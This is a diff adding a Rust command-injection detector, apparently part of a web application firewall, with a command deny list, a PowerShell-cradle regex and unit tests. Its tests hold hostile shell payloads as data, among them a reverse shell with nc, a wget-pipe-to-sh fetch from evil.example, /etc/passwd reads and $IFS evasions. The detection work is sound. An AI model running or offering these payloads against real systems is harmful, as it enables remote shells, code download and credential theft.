@@ -1,0 +1,637 @@
+//! Command injection: a lexer for sh/bash, cmd and PowerShell command lines.
+//!
+//! A value injected into a shell command does harm only with shell syntax around it: a
+//! separator or substitution that starts a new command (`;`, `|`, `&&`, newline, `$(..)`,
+//! backticks), then a command word, then its arguments. So this detector first undoes the
+//! evasions that keep a command word from looking like one (`c''at`, `c\at`, `c$@at`,
+//! `$IFS`, `${PATH:0:1}`, `{cat,/etc/passwd}`, `w^h^o^a^m^i`, `%COMSPEC%`), then lexes the
+//! value into words and operators, and fires only on a known command in command position
+//! whose arguments look like a command line's (a path, a flag, a URL, a redirection, a
+//! variable) or that needs none (`;id`, `|whoami`). A sentence with the words "time" or "cat"
+//! in it has no command position and passes; "; cat videos are fun" counts only from paranoia 2.
+//!
+//! Hand-written because shell grammars are not regular and no crate lexes sh, cmd and
+//! PowerShell leniently enough for hostile fragments; the lexer is one pass and fuzzed.
+
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::{Detector, Hit, Rule, Severity};
+
+pub static COMMAND: Rule = Rule {
+    id: 932100,
+    detector: Detector::CommandInjection,
+    severity: Severity::Critical,
+    paranoia: 1,
+    description: "Command injection: a separator or substitution, then a command with command-line arguments",
+};
+
+pub static EVADED_COMMAND: Rule = Rule {
+    id: 932110,
+    detector: Detector::CommandInjection,
+    severity: Severity::Critical,
+    paranoia: 1,
+    description: "Command injection: a command word assembled with shell evasions ($IFS, quotes, carets)",
+};
+
+pub static POWERSHELL: Rule = Rule {
+    id: 932120,
+    detector: Detector::CommandInjection,
+    severity: Severity::Critical,
+    paranoia: 1,
+    description: "Command injection: PowerShell download, encoded-command or expression invocation",
+};
+
+pub static BARE_COMMAND: Rule = Rule {
+    id: 932101,
+    detector: Detector::CommandInjection,
+    severity: Severity::Critical,
+    paranoia: 2,
+    description: "Command injection: a separator, then a known command with word arguments",
+};
+
+pub static RULES: &[&Rule] = &[&COMMAND, &EVADED_COMMAND, &POWERSHELL, &BARE_COMMAND];
+
+/// Commands that attackers run through injections, from CRS's unix-shell and windows-commands
+/// lists, trimmed to those whose names are not also common English words.
+const COMMANDS: &[&str] = &[
+    // POSIX reconnaissance and file reading
+    "cat",
+    "tac",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "nl",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "hostname",
+    "ifconfig",
+    "netstat",
+    "ps",
+    "env",
+    "printenv",
+    "pwd",
+    "lsof",
+    "w",
+    "who",
+    "last",
+    "lastlog",
+    "getent",
+    "groups",
+    "strings",
+    "xxd",
+    "od",
+    "hexdump",
+    "base64",
+    "rev",
+    "fold",
+    "grep",
+    "egrep",
+    "find",
+    "locate",
+    "awk",
+    "gawk",
+    "sed",
+    "xargs",
+    "tee",
+    "dd",
+    "file",
+    "stat",
+    // network and download
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "ssh",
+    "scp",
+    "sftp",
+    "ftp",
+    "tftp",
+    "ping",
+    "nslookup",
+    "dig",
+    "traceroute",
+    "nmap",
+    "openssl",
+    // interpreters and shells
+    "sh",
+    "bash",
+    "dash",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "lua",
+    "irb",
+    "gdb",
+    "vi",
+    "vim",
+    "ex",
+    "nohup",
+    "timeout",
+    "exec",
+    "eval",
+    "sudo",
+    "su",
+    "xterm",
+    "expect",
+    "tclsh",
+    "java",
+    // system changes
+    "chmod",
+    "chown",
+    "rm",
+    "mv",
+    "cp",
+    "touch",
+    "mkdir",
+    "kill",
+    "killall",
+    "pkill",
+    "crontab",
+    "useradd",
+    "usermod",
+    "passwd",
+    "systemctl",
+    "reboot",
+    "shutdown",
+    "halt",
+    "mkfifo",
+    "tar",
+    "zip",
+    "unzip",
+    "gcc",
+    "cc",
+    "sleep",
+    "mail",
+    "sendmail",
+    "echo",
+    "printf",
+    "export",
+    // Windows cmd
+    "cmd",
+    "powershell",
+    "pwsh",
+    "type",
+    "dir",
+    "net",
+    "netsh",
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "reg",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "ver",
+    "del",
+    "erase",
+    "schtasks",
+    "findstr",
+    "icacls",
+    "attrib",
+    "whoami.exe",
+    "cmd.exe",
+    "powershell.exe",
+    "vssadmin",
+    "ntdsutil",
+];
+
+/// Commands that are attacks with no arguments at all (`;id`, `|whoami`).
+const ARGUMENTLESS: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "hostname",
+    "pwd",
+    "ls",
+    "env",
+    "printenv",
+    "ps",
+    "netstat",
+    "systeminfo",
+    "ver",
+    "tasklist",
+    "w",
+    "who",
+    "reboot",
+    "shutdown",
+    "halt",
+    "sh",
+    "bash",
+    "dir",
+    "lastlog",
+    "cmd",
+    "powershell",
+];
+
+static POWERSHELL_PATTERN: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-[a-z]+\s+)*-(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|executionpolicy)\b|\binvoke-(?:expression|webrequest|command|restmethod|shellcode|mimikatz)\b|\biex\s*[(\x22'$]|new-object\s+(?:system\.)?net\.webclient|\.download(?:string|file|data)\s*\(|\bstart-process\b|\bset-mppreference\b",
+    )
+    .ok()
+});
+
+/// Reports command injection in one decoded form.
+pub fn detect(form: &[u8], hits: &mut Vec<Hit>) {
+    if let Some(found) = POWERSHELL_PATTERN
+        .as_ref()
+        .and_then(|regex| regex.find(form))
+    {
+        hits.push(Hit::new(
+            &POWERSHELL,
+            found.range(),
+            String::from_utf8_lossy(found.as_bytes()).into_owned(),
+        ));
+        return;
+    }
+    if !form.iter().any(|&byte| {
+        matches!(
+            byte,
+            b';' | b'|'
+                | b'&'
+                | b'\n'
+                | b'`'
+                | b'$'
+                | b'\''
+                | b'"'
+                | b'\\'
+                | b'^'
+                | b'{'
+                | b'%'
+                | b'/'
+        )
+    }) {
+        return;
+    }
+    let normalized = normalize(form);
+    let tokens = lex(&normalized.text);
+    let lowered = String::from_utf8_lossy(form).to_ascii_lowercase();
+    if let Some((rule, command)) = find_command(&tokens, &lowered, normalized.spacing_evaded) {
+        hits.push(Hit::new(rule, 0..form.len(), command));
+    }
+}
+
+struct Normalized {
+    text: String,
+    /// Whether `$IFS`, a `${VAR:0:1}` slice or a brace expansion stood in for spaces and
+    /// slashes: syntax no sentence has.
+    spacing_evaded: bool,
+}
+
+static IFS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    // `$IFS`, `${IFS}`, `$IFS$9`, and `${VAR:0:1}` slices (which attackers use to conjure `/`).
+    Regex::new(r"\$\{?IFS\}?(?:\$[0-9])?|\$\{[A-Za-z_]+:[0-9]+:[0-9]+\}|%[A-Za-z_]+:~[0-9,-]+%")
+        .ok()
+});
+
+fn normalize(form: &[u8]) -> Normalized {
+    let mut text = String::from_utf8_lossy(form).into_owned();
+    let mut spacing_evaded = false;
+    if let Some(regex) = IFS.as_ref() {
+        let replaced =
+            regex.replace_all(text.as_bytes(), |captures: &regex::bytes::Captures<'_>| {
+                let matched = captures.get(0).map_or(&b""[..], |found| found.as_bytes());
+                if matched.starts_with(b"${") && !matched.starts_with(b"${IFS") {
+                    b"/".to_vec()
+                } else if matched.starts_with(b"%") {
+                    Vec::new()
+                } else {
+                    b" ".to_vec()
+                }
+            });
+        if replaced.as_ref() != text.as_bytes() {
+            spacing_evaded = true;
+            text = String::from_utf8_lossy(&replaced).into_owned();
+        }
+    }
+    let lowered = text
+        .to_ascii_lowercase()
+        .replace("%comspec%", "cmd")
+        .replace("$@", "")
+        .replace("$*", "");
+    let chars: Vec<char> = lowered.chars().collect();
+    let mut out = String::with_capacity(lowered.len());
+    let mut previous_is_word = false;
+    let mut in_brace = false;
+    // A quote pair inside one word (`c''at`, `c'a't`, `"c"at`) is removed by the shell; a lone
+    // apostrophe (`I'd`) is prose and stays.
+    let mut open_quote: Option<char> = None;
+    for (index, &ch) in chars.iter().enumerate() {
+        let next = chars.get(index + 1).copied();
+        let next_is_word = next.is_some_and(|next| next.is_ascii_alphanumeric());
+        let separator = match ch {
+            '\'' | '"' if open_quote == Some(ch) => {
+                open_quote = None;
+                continue;
+            }
+            '\'' | '"'
+                if open_quote.is_none()
+                    && (previous_is_word || next_is_word || next == Some(ch))
+                    && chars[index + 1..]
+                        .iter()
+                        .take_while(|other| !other.is_whitespace())
+                        .any(|&other| other == ch) =>
+            {
+                open_quote = Some(ch);
+                continue;
+            }
+            // A backslash before a letter is that letter to sh; a caret is an escape to cmd.
+            '\\' | '^' if previous_is_word && next_is_word => continue,
+            '\\' if next_is_word && !matches!(next, Some('n' | 'r' | 't')) => continue,
+            // Brace expansion `{cat,/etc/passwd}` is `cat /etc/passwd`.
+            '{' => {
+                in_brace = true;
+                true
+            }
+            '}' => {
+                in_brace = false;
+                true
+            }
+            ',' if in_brace => {
+                spacing_evaded = true;
+                true
+            }
+            _ => false,
+        };
+        if separator {
+            out.push(' ');
+            previous_is_word = false;
+        } else {
+            previous_is_word = ch.is_ascii_alphanumeric();
+            out.push(ch);
+        }
+    }
+    Normalized {
+        text: out,
+        spacing_evaded,
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Token<'a> {
+    Word(&'a str),
+    /// Starts a new command: `;`, `|`, `||`, `&`, `&&`, newline.
+    Separator,
+    /// Starts a substituted command: `$(`, backtick, `<(`, `>(`.
+    Substitution,
+    Redirect,
+}
+
+fn lex(text: &str) -> Vec<Token<'_>> {
+    let bytes = text.as_bytes();
+    let mut tokens = Vec::new();
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b' ' | b'\t' | b'\r' | b'(' | b')' => i += 1,
+            b';' | b'|' | b'&' | b'\n' => {
+                tokens.push(Token::Separator);
+                i += 1;
+                while i < bytes.len() && matches!(bytes[i], b'|' | b'&') {
+                    i += 1;
+                }
+            }
+            b'`' => {
+                tokens.push(Token::Substitution);
+                i += 1;
+            }
+            b'$' if bytes.get(i + 1) == Some(&b'(') => {
+                tokens.push(Token::Substitution);
+                i += 2;
+            }
+            b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
+                tokens.push(Token::Substitution);
+                i += 2;
+            }
+            b'<' | b'>' => {
+                tokens.push(Token::Redirect);
+                i += 1;
+                while i < bytes.len() && matches!(bytes[i], b'<' | b'>' | b'&') {
+                    i += 1;
+                }
+            }
+            _ => {
+                let start = i;
+                while i < bytes.len()
+                    && !matches!(
+                        bytes[i],
+                        b' ' | b'\t'
+                            | b'\r'
+                            | b'\n'
+                            | b';'
+                            | b'|'
+                            | b'&'
+                            | b'`'
+                            | b'<'
+                            | b'>'
+                            | b'('
+                            | b')'
+                    )
+                    && !(bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'('))
+                {
+                    i += 1;
+                }
+                tokens.push(Token::Word(&text[start..i]));
+            }
+        }
+    }
+    tokens
+}
+
+/// The command a word names: `/usr/bin/cat` and `C:\Windows\System32\cmd.exe` name `cat` and
+/// `cmd`.
+fn command_name(word: &str) -> &str {
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    base.strip_suffix(".exe").unwrap_or(base)
+}
+
+fn is_command(word: &str) -> bool {
+    COMMANDS.contains(&command_name(word))
+}
+
+/// Arguments a command line has and a sentence does not.
+fn is_command_argument(word: &str) -> bool {
+    word.starts_with('-')
+        || word.starts_with('/')
+        || word.starts_with('$')
+        || word.starts_with('%')
+        || word.starts_with("./")
+        || word.starts_with("~/")
+        || word.contains("://")
+        || word.contains('\\')
+        || word.contains('/') && !word.ends_with('/')
+        || word.contains('=')
+        || is_ipv4(word)
+        || is_command(word)
+}
+
+fn is_ipv4(word: &str) -> bool {
+    let parts: Vec<&str> = word.split('.').collect();
+    parts.len() == 4
+        && parts.iter().all(|part| {
+            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
+        })
+}
+
+/// Finds the first command in command position. `original` is the lowercase input: a command
+/// word it does not contain was assembled by an evasion.
+fn find_command(
+    tokens: &[Token<'_>],
+    original: &str,
+    spacing_evaded: bool,
+) -> Option<(&'static Rule, String)> {
+    let mut weak = None;
+    for (index, token) in tokens.iter().enumerate() {
+        let Token::Word(word) = token else { continue };
+        if !is_command(word) {
+            continue;
+        }
+        let previous = index.checked_sub(1).and_then(|at| tokens.get(at));
+        let in_command_position = matches!(previous, Some(Token::Separator | Token::Substitution));
+        let substituted = matches!(previous, Some(Token::Substitution));
+        let absolute = word.starts_with('/') && word[1..].contains('/');
+        let rest = &tokens[index + 1..];
+        let arguments: Vec<&str> = rest
+            .iter()
+            .map_while(|token| match token {
+                Token::Word(word) => Some(*word),
+                _ => None,
+            })
+            .collect();
+        let ends_command = rest
+            .first()
+            .is_none_or(|token| !matches!(token, Token::Word(_)));
+        let name = command_name(word);
+        let command_line = arguments
+            .iter()
+            .any(|argument| is_command_argument(argument))
+            || rest
+                .iter()
+                .take(arguments.len() + 1)
+                .any(|token| matches!(token, Token::Redirect))
+            || name == "sleep"
+                && arguments
+                    .first()
+                    .is_some_and(|seconds| seconds.bytes().all(|b| b.is_ascii_digit()));
+        let evaded = spacing_evaded || !original.contains(name);
+        let described = format!("{name} {}", arguments.join(" "))
+            .trim_end()
+            .to_owned();
+        if evaded && (in_command_position || absolute || index == 0 && spacing_evaded) {
+            return Some((&EVADED_COMMAND, described));
+        }
+        if in_command_position || absolute {
+            if substituted
+                || command_line
+                || ends_command && (absolute || ARGUMENTLESS.contains(&name))
+            {
+                return Some((&COMMAND, described));
+            }
+            weak.get_or_insert((&BARE_COMMAND, described));
+        }
+    }
+    weak
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule_ids(input: &str) -> Vec<u32> {
+        let mut hits = Vec::new();
+        detect(input.as_bytes(), &mut hits);
+        hits.iter().map(|hit| hit.rule.id).collect()
+    }
+
+    #[test]
+    fn command_lines_after_separators_fire() {
+        for attack in [
+            ";cat /etc/passwd",
+            "127.0.0.1; id",
+            "x | whoami",
+            "a && uname -a",
+            "$(wget http://evil.example/x.sh -O- | sh)",
+            "`id`",
+            "x\nnc -e /bin/sh 10.0.0.1 4444",
+            "127.0.0.1 & ipconfig /all",
+            "foo|/bin/bash -i",
+            "1;sleep 10",
+        ] {
+            assert_eq!(rule_ids(attack), vec![932100], "{attack}");
+        }
+    }
+
+    #[test]
+    fn evasions_are_seen_through() {
+        for attack in [
+            ";c''at /etc/passwd",
+            ";c\\at /etc/passwd",
+            "cat$IFS/etc/passwd",
+            ";cu$@rl evil.example",
+            ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
+            "{cat,/etc/passwd}",
+            "& w^h^o^a^m^i",
+        ] {
+            let ids = rule_ids(attack);
+            assert!(
+                ids == vec![932110] || ids == vec![932100],
+                "{attack}: {ids:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn powershell_fires() {
+        for attack in [
+            "powershell -enc SQBFAFgA",
+            "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
+            "; Invoke-Expression $x",
+        ] {
+            assert_eq!(rule_ids(attack), vec![932120], "{attack}");
+        }
+    }
+
+    #[test]
+    fn prose_passes() {
+        for benign in [
+            "What time is it? I need to cat-sit at ls 5.",
+            "Tom & Jerry",
+            "rock & roll; find your groove",
+            "I like cats; cat videos are fun",
+            "Q&A: how do I ping you?",
+            "The id is 42 | status: done",
+            "it's \"less\" than I hoped",
+            "He said: echo this back",
+            "Sure; I'd love to, it's great",
+            "salt & pepper",
+        ] {
+            assert!(!rule_ids(benign).contains(&932100), "{benign}");
+            assert!(!rule_ids(benign).contains(&932110), "{benign}");
+        }
+        assert_eq!(rule_ids("I like cats; cat videos are fun"), vec![932101]);
+    }
+}
